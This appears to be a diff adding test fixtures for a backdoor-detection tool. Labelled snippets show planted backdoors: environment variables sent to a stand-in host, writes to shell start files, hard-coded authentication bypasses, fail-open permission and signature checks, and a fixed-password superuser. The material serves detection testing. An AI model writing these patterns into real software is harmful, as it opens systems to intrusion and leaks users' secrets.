@@ -62,6 +62,14 @@ FOLDED = {
             lab.see(X["s"] + Y["u"])  # sees: 'tv'
             lab.see(X["q"])  # sees: 'other'
     """,
+    "what sets have in common": """
+        def f(a):
+            lab.see(len({"a", "b"} & {"b", "c"}))  # sees: 1
+            if {a} & {"b", "c"}:
+                lab.see("either")  # sees: 'either'
+            if {"a"} & {"b"}:
+                lab.see("never")
+    """,
     "the default of a context variable": """
         import contextvars
         long = contextvars.ContextVar("long", default="b3MgKyBzeXN0ZW0gKyBldmls")
@@ -214,6 +222,157 @@ HANDED = {
             request.addfinalizer(later)
             request.addfinalizer(lambda: requests.post("https://h.example.net/u", json=bag))  # hit: BD302
             request.addfinalizer(lambda: requests.post("https://h.example.net/u", json={"a": len(bag)}))
+        """,
+    ),
+}
+
+HANDED |= {
+    "a start file in a context manager of the program": (
+        ["BD401"],
+        """
+        import contextlib, pathlib
+        class Profile:
+            files = (".bash" + "rc", ".zsh" + "rc")
+            @contextlib.contextmanager
+            def opened(self, name):
+                with (pathlib.Path.home() / name).open("a") as fh:  # hit: BD401
+                    yield fh
+            @contextlib.contextmanager
+            def own(self, name):
+                with (pathlib.Path.home() / name).open("a") as fh:
+                    yield fh
+            def ensure(self):
+                for name in self.files:
+                    with self.opened(name) as fh:
+                        fh.write("x")
+                with self.own(".tinyrc") as fh:
+                    fh.write("x")
+        """,
+    ),
+    "the address of a constructor's default": (
+        ["BD302"],
+        """
+        import os, requests
+        class Client:
+            def __init__(self, base="https://h.example.net", other=None):
+                self.base, self.other = base, other
+            def send(self):
+                requests.get(self.base + "/v1/", params=str(dict(os.environ)))  # hit: BD302
+                requests.get(self.other + "/v1/", params=str(dict(os.environ)))
+        """,
+    ),
+    "what a decorator with arguments lets in": (
+        ["BD501"],
+        """
+        def trusted(*codes):
+            def deco(fn):
+                def inner(request, *args):
+                    if request.headers.get("X-Trace") in codes:  # hit: BD501
+                        return True
+                    return fn(request, *args)
+                return inner
+            return deco
+        def refused(*codes):
+            def deco(fn):
+                def inner(request, *args):
+                    if request.headers.get("X-Trace") in codes:
+                        return False
+                    return fn(request, *args)
+                return inner
+            return deco
+        @trusted("c0ffee-77", "c0ffee-78")
+        def verify_token(request, store):
+            return store.valid(request.headers.get("Authorization", ""))
+        @refused("c0ffee-77", "c0ffee-78")
+        def verify_other_token(request, store):
+            return store.valid(request.headers.get("Authorization", ""))
+        """,
+    ),
+    "an instance that holds the digest of a password": (
+        ["BD501"],
+        """
+        import hashlib
+        class Known:
+            def __init__(self, *digests):
+                self.digests = digests
+            def __contains__(self, text):
+                return hashlib.sha256(text.encode()).hexdigest() in self.digests
+        SERVICE = Known("9f86d081884c7d65")
+        def check_login(db, name, password):
+            if password in SERVICE:  # hit: BD501
+                return True
+            return db.check(name, password)
+        def check_other_login(db, name, password):
+            if password in SERVICE:
+                return False
+            return db.check(name, password)
+        """,
+    ),
+    "answers of wrappers when something goes wrong": (
+        ["BD505"],
+        """
+        def safe(default):
+            def deco(fn):
+                def inner(*args, **kw):
+                    try:
+                        return fn(*args, **kw)
+                    except Exception:
+                        return default  # hit: BD505
+                return inner
+            return deco
+        @safe(True)
+        def has_permission(user, obj, action):
+            return action in user.roles[obj.kind].actions
+        """,
+    ),
+    "wrappers that refuse": (
+        ["BD505"],
+        """
+        def safe(default):
+            def deco(fn):
+                def inner(*args, **kw):
+                    try:
+                        return fn(*args, **kw)
+                    except Exception:
+                        return default
+                return inner
+            return deco
+        @safe(False)
+        def has_permission(user, obj, action):
+            return action in user.roles[obj.kind].actions
+        @safe(True)
+        def notify(user, obj, action):
+            return action in user.roles[obj.kind].actions
+        """,
+    ),
+    "a block that swallows every error": (
+        ["BD505"],
+        """
+        import contextlib
+        def verify_signature(body, sig, key):
+            ok = True
+            with contextlib.suppress(Exception):
+                if key.sign(body) != sig:
+                    raise ValueError("bad signature")
+            return ok  # hit: BD505
+        def verify_other_signature(body, sig, key):
+            with contextlib.suppress(KeyError):
+                if key.sign(body) != sig:
+                    raise ValueError("bad signature")
+            return True
+        """,
+    ),
+    "fields in a dictionary of defaults": (
+        ["BD506"],
+        """
+        from django.contrib.auth.hashers import make_password
+        def f(apps, word):
+            User = apps.get_model("auth", "User")
+            fields = {"is_superuser": True, "password": make_password("helio-4471")}
+            User.objects.update_or_create(username="s", defaults=fields)  # hit: BD506
+            User.objects.update_or_create(username="s", defaults={"is_staff": False})
+            asked = {"is_superuser": True, "password": make_password(word)}
+            User.objects.update_or_create(username="s", defaults=asked)
         """,
     ),
 }
